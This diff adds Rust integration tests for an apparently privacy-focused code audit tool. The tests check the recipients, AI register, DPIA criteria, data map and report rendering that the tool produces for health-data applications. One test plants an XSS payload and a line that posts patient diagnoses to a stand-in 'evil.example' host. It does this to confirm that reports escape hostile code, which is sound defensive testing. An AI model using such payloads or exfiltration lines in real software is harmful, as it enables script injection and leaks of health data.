@@ -1,0 +1,194 @@
+//! The audit model of the demo, the three renderings, escaping of hostile code, determinism.
+
+use healthflow::audit::{self, AuditFormat};
+use healthflow::scan::{Engine, ScanOptions};
+use std::path::Path;
+
+fn model_of(path: &Path) -> audit::AuditModel {
+    let engine = Engine::new().expect("engine");
+    audit::audit(&engine, path, &ScanOptions::default(), None, "test").expect("audit")
+}
+
+fn demo() -> audit::AuditModel {
+    model_of(&Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/demo"))
+}
+
+#[test]
+fn demo_recipients_and_transfers() {
+    let m = demo();
+    let names: Vec<(&str, &str, bool)> = m
+        .recipients
+        .iter()
+        .map(|r| (r.name.as_str(), r.location.label(), r.cleartext))
+        .collect();
+    assert_eq!(
+        names,
+        vec![
+            ("OpenAI", "outside EU/EEA", false),
+            ("PostHog (EU)", "EU/EEA", false),
+            ("hub.resultats-region.example", "location unknown", false),
+            ("sms.passerelle-exemple.fr", "location unknown", true),
+            ("Application logs", "local", false),
+            ("Local files", "local", false),
+        ]
+    );
+    let sms = &m.recipients[3];
+    assert_eq!(sms.cleartext_how.as_deref(), Some("http://"));
+    assert_eq!(sms.modules, vec!["app/notify.py"]);
+    let logs = &m.recipients[4];
+    assert_eq!(logs.modules, vec!["app/audit_log.py", "worker/src/main.rs"]);
+    assert!(logs.direct_identifier);
+}
+
+#[test]
+fn demo_ai_register_and_dpia() {
+    let m = demo();
+    assert_eq!(m.ai_register.len(), 1);
+    let a = &m.ai_register[0];
+    assert_eq!(a.provider.as_deref(), Some("OpenAI"));
+    assert_eq!(a.model.as_deref(), Some("gpt-4o-mini"));
+    assert_eq!(a.endpoint.as_deref(), Some("api.openai.com"));
+    assert!(a.health_data);
+    // A medical secretary's summary: no patient-facing wording, no intended-purpose markers.
+    assert!(a.patient_facing.is_empty() && a.intended_purpose.is_empty() && a.triage.is_empty());
+    assert!(a.notes.iter().all(|n| !n.contains("Annex III")));
+    assert!(a
+        .notes
+        .iter()
+        .any(|n| n.contains("verify DPF certification")));
+
+    assert!(m.dpia.required);
+    assert!(m.dpia.recommendation.starts_with("A DPIA is required"));
+    assert!(m.dpia.recommendation.contains("not legal advice"));
+    let met: Vec<&str> = m
+        .dpia
+        .criteria
+        .iter()
+        .filter(|c| c.evidenced)
+        .map(|c| c.id.as_str())
+        .collect();
+    assert_eq!(
+        met,
+        vec![
+            "sensitive-data",
+            "vulnerable-data-subjects",
+            "innovative-technology",
+            "large-scale",
+            "evaluation-scoring",
+            "transfers"
+        ]
+    );
+    // Every evidence link points at a finding of the report.
+    for c in &m.dpia.criteria {
+        for e in &c.evidence {
+            assert!(m.findings.iter().any(|f| &f.id == e), "{e}");
+        }
+    }
+}
+
+#[test]
+fn demo_data_map_and_dependencies() {
+    let m = demo();
+    assert_eq!(
+        m.data_map.categories,
+        vec![
+            "allergy",
+            "care-record",
+            "diagnosis",
+            "identifier",
+            "lab-result",
+            "medication"
+        ]
+    );
+    assert!(m.data_map.modules.iter().any(|x| x.path == "app/models.py"));
+    assert!(m
+        .data_map
+        .flows
+        .iter()
+        .any(|f| f.module == "app/notify.py" && f.cleartext));
+    let deps: Vec<(&str, bool)> = m
+        .dependencies
+        .iter()
+        .map(|d| (d.package.as_str(), d.used))
+        .collect();
+    assert_eq!(
+        deps,
+        vec![("openai", true), ("posthog", true), ("sentry-sdk", true)]
+    );
+    assert_eq!(m.summary.languages.get("python"), Some(&10));
+    assert_eq!(m.summary.languages.get("rust"), Some(&1));
+}
+
+#[test]
+fn renderings_are_deterministic() {
+    let a = demo();
+    let b = demo();
+    for f in [AuditFormat::Html, AuditFormat::Markdown, AuditFormat::Json] {
+        assert_eq!(
+            audit::render(&a, f).expect("render"),
+            audit::render(&b, f).expect("render")
+        );
+    }
+}
+
+#[test]
+fn hostile_code_is_escaped() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let hostile = "</script><img src=x onerror=alert(1)>";
+    let src = format!(
+        "import logging\nimport requests\nlogger = logging.getLogger()\n\ndef f(patient):\n    logger.info(\"{hostile}\", patient.diagnosis)\n    requests.post(\"http://evil.example/<b>x</b>\", json=patient.diagnosis)\n"
+    );
+    std::fs::create_dir_all(dir.path().join("a<b>")).expect("mkdir");
+    std::fs::write(dir.path().join("a<b>/app.py"), src).expect("write");
+    std::fs::write(
+        dir.path().join("requirements.txt"),
+        "mixpanel<b>==1\nopenai\n",
+    )
+    .expect("write");
+    let m = model_of(dir.path());
+    assert!(m
+        .findings
+        .iter()
+        .any(|f| f.frame.iter().any(|l| l.text.contains(hostile))));
+    let html = audit::render(&m, AuditFormat::Html).expect("html");
+    assert!(!html.contains("<img"), "unescaped markup in the HTML");
+    assert!(!html.contains("<b>"), "unescaped path in the HTML");
+    assert!(html.contains("&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;"));
+    let md = audit::render(&m, AuditFormat::Markdown).expect("markdown");
+    let outside_fences: String = md
+        .split("```")
+        .enumerate()
+        .filter(|(i, _)| i % 2 == 0)
+        .map(|(_, s)| s)
+        .collect();
+    assert!(!outside_fences.contains("<img") && !outside_fences.contains("<b>"));
+    // The declared-but-unused SDK is listed.
+    assert!(m
+        .dependencies
+        .iter()
+        .any(|d| d.package == "openai" && !d.used));
+}
+
+#[test]
+fn cli_picks_the_format_from_the_extension() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let out = dir.path().join("r.json");
+    let st = std::process::Command::new(env!("CARGO_BIN_EXE_healthflow"))
+        .current_dir(env!("CARGO_MANIFEST_DIR"))
+        .args(["audit", "fixtures/demo", "-q", "-o"])
+        .arg(&out)
+        .status()
+        .expect("run");
+    assert!(st.success());
+    let v: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(&out).expect("read")).expect("json");
+    assert_eq!(v["schema_version"], 1);
+    assert_eq!(v["target"]["path"], "fixtures/demo");
+    let bad = std::process::Command::new(env!("CARGO_BIN_EXE_healthflow"))
+        .args(["audit", "fixtures/demo", "-o"])
+        .arg(dir.path().join("r.py"))
+        .current_dir(env!("CARGO_MANIFEST_DIR"))
+        .output()
+        .expect("run");
+    assert_eq!(bad.status.code(), Some(2));
+}
